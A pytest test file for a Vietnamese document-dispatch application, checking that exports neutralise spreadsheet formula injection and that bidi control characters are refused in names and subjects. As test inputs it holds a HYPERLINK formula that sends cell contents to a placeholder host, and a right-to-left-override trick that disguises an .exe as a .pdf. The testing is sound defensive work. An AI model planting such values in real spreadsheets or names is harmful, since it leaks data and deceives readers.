"""How typed text is stored and exported: a name typed as a formula stays text in every
spreadsheet Dispatch writes (the leaders' CSV and XLSX, the register, the evidence package's
CSV, the directory export), and the directory export still imports back as it was."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from dispatch.clock import parse_moment
from dispatch.directory import edit as directory_edit
from dispatch.directory import offices
from dispatch.extensions import db
from dispatch.letters.source import (
    LetterSourceError,
    build_letter,
    read_source,
    source_from_json,
    source_to_json,
)
from dispatch.models import DispatchRecipient
from dispatch.receipts import acknowledgements
from dispatch.reporting import dashboard, evidence, exports, register
from dispatch.text import (
    FORMULA_START,
    from_spreadsheet_text,
    refused_characters,
    refused_characters_message,
    spreadsheet_text,
    text_cells_only,
)
from tests.fixtures.letter_source import FRONT

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
CONFIRMED_AT = parse_moment("2021-11-15T10:00:00+07:00")
SEEN_AT = parse_moment("2021-11-16T09:00:00+07:00")


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_value_that_starts_like_a_formula_is_quoted_and_read_back(start):
    value = f"{start}1+2"
    assert spreadsheet_text(value) == "'" + value
    assert from_spreadsheet_text(spreadsheet_text(value)) == value


@pytest.mark.parametrize("value", ["Nguyễn Văn Bình", "15/11/2021 08:30", "'quoted", "", "a=b"])
def test_ordinary_text_is_left_as_it_is(value):
    assert spreadsheet_text(value) == value
    assert from_spreadsheet_text(value) == value


def test_text_cells_only_stores_a_formula_looking_string_as_text():
    book = Workbook()
    sheet = book.active
    sheet.append([HOSTILE, 3])
    assert sheet["A1"].data_type == "f"  # what openpyxl does with such a string by itself
    text_cells_only(sheet)
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue()))["Sheet"]["A1"]
    assert cell.data_type == "s" and cell.value == HOSTILE
    assert b"<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")


@pytest.fixture()
def confirmed_by_a_formula(issued_dispatch):
    """An issued dispatch whose Hà Nội office confirmed with a name typed as a formula."""
    dispatch = issued_dispatch()
    hanoi = (
        db.session.query(DispatchRecipient)
        .filter_by(dispatch_id=dispatch.id, province_code="01")
        .one()
    )
    acknowledgements.acknowledge(
        hanoi, HOSTILE, "@SUM(1,2)", "-2+3", ip=None, user_agent=None, at=CONFIRMED_AT
    )
    db.session.commit()
    return dispatch


def _rows_of_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_leaders_csv_and_xlsx_keep_a_formula_name_as_text(confirmed_by_a_formula):
    board = dashboard.dispatch_dashboard(confirmed_by_a_formula.id, at=SEEN_AT)

    rows = _rows_of_csv(exports.to_csv(board))
    assert [cell for row in rows for cell in row if HOSTILE in cell] == ["'" + HOSTILE]

    data = exports.to_xlsx(board)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    [named] = [c for c in cells if c.value == HOSTILE]
    assert named.data_type == "s"


def test_the_evidence_packages_confirmations_csv_quotes_what_was_typed(confirmed_by_a_formula):
    package = evidence.build_evidence(confirmed_by_a_formula.id, at=SEEN_AT)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        [name] = [n for n in archive.namelist() if n.endswith("/confirmations.csv")]
        rows = _rows_of_csv(archive.read(name))
    typed = [cell for row in rows for cell in row if cell.lstrip("'")[:1] in ("=", "@", "-")]
    assert sorted(typed) == sorted(["'" + HOSTILE, "'@SUM(1,2)", "'-2+3"])


def test_the_register_xlsx_has_no_formula(issued_dispatch):
    issued_dispatch()
    book = register.build_register(2021)
    # The filing note comes from the letter's "Lưu: …" line, as the clerk typed it.
    [row] = book.rows
    book = dataclasses.replace(book, rows=[dataclasses.replace(row, filed_by="=1+1")])
    data = register.register_xlsx(book, at=SEEN_AT)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cells = [c for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r]
    [typed] = [c for c in cells if c.value == "=1+1"]
    assert typed.data_type == "s"


def test_the_directory_export_quotes_formulas_and_imports_back_unchanged(seeded):
    hanoi = offices.office_on("01", dt.date(2021, 11, 15))
    hanoi.name = "-Sở Thông tin và Truyền thông thành phố Hà Nội"
    db.session.commit()

    exported = offices.export_csv()
    [row] = [
        r
        for r in csv.reader(io.StringIO(exported.removeprefix("\ufeff")))
        if r[0] == "01" and r[8] == "2021-01-01"
    ]
    assert row[4] == "'-Sở Thông tin và Truyền thông thành phố Hà Nội"

    hanoi.name = "Sở Thông tin và Truyền thông thành phố Hà Nội"
    db.session.commit()
    offices.import_csv(exported, actor="quantri@thh.example", at=SEEN_AT)
    db.session.commit()
    db.session.expire_all()
    again = offices.office_on("01", dt.date(2021, 11, 15))
    assert again.name == "-Sở Thông tin và Truyền thông thành phố Hà Nội"


# --- characters refused in subjects and names ---------------------------------------------------

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "Sở TTTT{RLO}fdp.exe" shows as "Sở TTTTexe.pdf"


def test_bidi_controls_and_lone_surrogates_are_named():
    assert refused_characters(f"a{RLO}b\u2066c{RLO}") == ["U+202E", "U+2066"]
    assert refused_characters("\ud800") == ["U+D800"]
    assert refused_characters("Sở Thông tin và Truyền thông (ĐBSCL) – 2021") == []
    assert "U+202E" in refused_characters_message(RLO)
    assert refused_characters_message("Hà Nội") is None


@pytest.mark.parametrize(
    ("field", "value"),
    [("subject", f"triển khai {RLO}fdp.exe"), ("issuing_agency", f"Cục{RLO} Tin học hoá")],
)
def test_a_letter_source_refuses_a_bidi_control_naming_the_field_and_line(
    write_letter, letter_project, field, value
):
    front = FRONT.replace(
        next(line for line in FRONT.splitlines() if line.startswith(f"{field}:")),
        f"{field}: {value}",
    )
    folder = write_letter(front)
    with pytest.raises(LetterSourceError) as caught:
        build_letter(read_source(folder), letter_project)
    message = str(caught.value)
    assert "U+202E" in message and "letter.md:" in message and field in message


def test_a_lone_surrogate_in_a_subject_sent_as_json_is_a_clear_error(write_letter, letter_project):
    data = source_to_json(read_source(write_letter()))  # what the API and the web form post
    data["meta"]["subject"] = "triển khai \ud800"
    with pytest.raises(LetterSourceError, match="U\\+D800"):
        build_letter(source_from_json(data), letter_project)


def test_a_confirmer_name_with_a_bidi_control_is_refused_and_nothing_recorded(issued_dispatch):
    dispatch = issued_dispatch()
    hanoi = (
        db.session.query(DispatchRecipient)
        .filter_by(dispatch_id=dispatch.id, province_code="01")
        .one()
    )
    with pytest.raises(acknowledgements.AcknowledgementError) as caught:
        acknowledgements.acknowledge(
            hanoi, f"Nguyễn Văn{RLO} Bình", "Văn thư", None, None, None, at=CONFIRMED_AT
        )
    assert set(caught.value.errors) == {"name"} and "U+202E" in caught.value.errors["name"]
    db.session.rollback()
    assert db.session.get(DispatchRecipient, hanoi.id).acknowledged_at is None


def test_an_office_name_with_a_bidi_control_is_refused_by_import_and_form(seeded):
    exported = offices.export_csv()
    hostile = exported.replace("Sở Thông tin và Truyền thông thành phố Hà Nội", f"Sở{RLO} TTTT", 1)
    with pytest.raises(offices.DirectoryImportError, match="U\\+202E"):
        offices.import_csv(hostile, actor="quantri@thh.example", at=SEEN_AT)
    db.session.rollback()

    hanoi = offices.office_on("01", dt.date(2021, 11, 15))
    form = directory_edit.form_for(hanoi)
    with pytest.raises(directory_edit.OfficeError) as caught:
        directory_edit.update_office(
            hanoi.id,
            dataclasses.replace(form, name=f"Sở{RLO} TTTT"),
            actor=None,
            at=SEEN_AT,
        )
    assert "U+202E" in caught.value.errors["name"]


def test_a_user_name_with_a_bidi_control_is_refused(db_app, runner):
    from dispatch.accounts import users
    from dispatch.models import Role, User

    with pytest.raises(users.UserError, match="U\\+202E"):
        users.create_user(
            "vanthu@thh.example",
            role=Role.CLERK,
            password=None,
            at=SEEN_AT,
            actor="system",
            name=f"Nguyễn Văn{RLO} Thư",
        )
    db.session.rollback()
    result = runner.invoke(
        args=[
            "users",
            "create",
            "vanthu@thh.example",
            "--role",
            "clerk",
            "--name",
            f"Trần{RLO}\u2066 Thị Hà",
            "--password",
            "mat-khau-du-dai-2021",
        ]
    )
    assert result.exit_code != 0 and "U+202E, U+2066" in result.output
    assert db.session.query(User).count() == 0


def test_a_subject_typed_with_a_bidi_control_is_flagged_and_never_listed_reordered(desk):
    from tests.fixtures.clerks import draft_id_from, post_form, valid_fields

    subject = f"triển khai {RLO}fdp.exe"
    response = post_form(
        desk.clerk,
        "/dispatches/new",
        valid_fields(subject=subject),
        token_from="/dispatches/new",
    )
    draft_id = draft_id_from(response)
    # The composer keeps what was typed, shows what is wrong with it, and will not issue it.
    page = desk.clerk.get(f"/dispatches/{draft_id}/edit").get_data(as_text=True)
    assert "U+202E" in page
    post_form(desk.clerk, f"/dispatches/{draft_id}/issue", {})
    from dispatch.models import AuditEntry, Dispatch, DispatchStatus

    db.session.expire_all()
    assert db.session.get(Dispatch, draft_id).status is DispatchStatus.DRAFT
    # The lists and the audit log, which other people read, never carry the character.
    home = desk.clerk.get("/").get_data(as_text=True)
    assert "triển khai fdp.exe" in home and RLO not in home
    assert RLO not in desk.leader.get("/lanh-dao/").get_data(as_text=True)
    assert RLO not in db.session.get(Dispatch, draft_id).subject
    entry = db.session.query(AuditEntry).filter_by(action="dispatch.drafted").one()
    assert RLO not in entry.details["subject"]
